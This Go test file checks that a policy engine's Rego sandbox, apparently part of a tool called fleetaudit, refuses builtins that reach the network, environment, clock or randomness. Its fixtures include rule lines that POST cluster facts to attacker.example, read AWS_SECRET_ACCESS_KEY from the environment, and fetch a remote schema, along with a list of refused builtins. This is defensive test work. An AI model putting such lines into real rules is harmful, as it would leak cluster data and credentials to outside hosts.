package policy_test

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/fleetaudit/fleetaudit/internal/facts"
	"github.com/fleetaudit/fleetaudit/internal/policy"
	"github.com/fleetaudit/fleetaudit/internal/testkit"
)

func writeFile(t *testing.T, dir, name, src string) string {
	t.Helper()
	p := filepath.Join(dir, name)
	if err := os.WriteFile(p, []byte(src), 0o644); err != nil {
		t.Fatal(err)
	}
	return p
}

// TestSandboxRefusesBuiltinsAtLoad: a rule file that calls a builtin reaching the network, the
// environment, the clock or randomness fails to load, with the file, the line, the builtin and
// why; the rule never runs.
func TestSandboxRefusesBuiltinsAtLoad(t *testing.T) {
	cases := []struct{ name, body, builtin, why string }{
		{"exfiltrate facts", `	http.send({"method": "POST", "url": "https://attacker.example/", "body": input.cluster})`, "http.send", "must not reach the network"},
		{"dns lookup", `	net.lookup_ip_addr("example.com")`, "net.lookup_ip_addr", "must not reach the network"},
		{"read credentials", `	opa.runtime().env.AWS_SECRET_ACCESS_KEY`, "opa.runtime", "environment variables"},
		{"clock", `	time.now_ns() > 0`, "time.now_ns", "collectedAt"},
		{"randomness", `	rand.intn("x", 10) == 3`, "rand.intn", "random"},
		{"uuid", `	uuid.rfc4122("x") != ""`, "uuid.rfc4122", "random"},
		{"remote schema", `	json.match_schema({}, {"$ref": "https://attacker.example/s.json"})`, "json.match_schema", "network"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			path := writeFile(t, dir, "evil.rego", testkit.HostileRule("EVIL-1", "evil", tc.body))
			_, err := policy.New(context.Background(), policy.Options{Dirs: []string{dir}})
			if err == nil {
				t.Fatal("the rule loaded")
			}
			want := path + ":10: rego_type_error: " + tc.builtin + " is not allowed in fleetaudit rules: "
			if !strings.Contains(err.Error(), want) || !strings.Contains(err.Error(), tc.why) {
				t.Fatalf("error %q\nwant it to contain %q and %q", err, want, tc.why)
			}
		})
	}
}

// TestSandboxRefusesBuiltinsInRegoTests: `rules test` compiles in the same sandbox, so a test
// file cannot call http.send either.
func TestSandboxRefusesBuiltinsInRegoTests(t *testing.T) {
	dir := t.TempDir()
	path := writeFile(t, dir, "evil_test.rego", "package evil_test\n\ntest_exfiltrate if {\n\thttp.send({\"method\": \"GET\", \"url\": \"https://attacker.example/\"})\n}\n")
	_, err := policy.RunTests(context.Background(), []string{dir})
	if err == nil || !strings.Contains(err.Error(), path+":4: rego_type_error: http.send is not allowed in fleetaudit rules") {
		t.Fatalf("error %v, want http.send refused at %s:4", err, path)
	}
}

// TestSandboxKeepsPureBuiltins: the pure network helpers (CIDR arithmetic) and the time
// functions on given timestamps still work in rules.
func TestSandboxKeepsPureBuiltins(t *testing.T) {
	dir := t.TempDir()
	writeFile(t, dir, "pure.rego", testkit.HostileRule("PURE-1", "pure", `	net.cidr_contains("10.0.0.0/8", "10.1.2.3")
	time.parse_rfc3339_ns("2026-01-02T03:04:05Z") > 0
	count(numbers.range(1, 3)) == 3`))
	e, err := policy.New(context.Background(), policy.Options{Dirs: []string{dir}})
	if err != nil {
		t.Fatal(err)
	}
	fs, err := e.Evaluate(context.Background(), &facts.Cluster{Name: "c"})
	if err != nil {
		t.Fatal(err)
	}
	n := 0
	for _, f := range fs {
		if f.RuleID == "PURE-1" {
			n++
		}
	}
	if n != 1 {
		t.Fatalf("%d PURE-1 findings, want 1", n)
	}
	refused := policy.RefusedBuiltins()
	for _, b := range []string{"http.send", "net.lookup_ip_addr", "opa.runtime", "time.now_ns", "rand.intn", "uuid.rfc4122"} {
		if refused[b] == "" {
			t.Errorf("%s is not refused", b)
		}
	}
	for _, b := range []string{"net.cidr_contains", "time.parse_rfc3339_ns", "trace", "print"} {
		if _, ok := refused[b]; ok {
			t.Errorf("%s is refused", b)
		}
	}
}
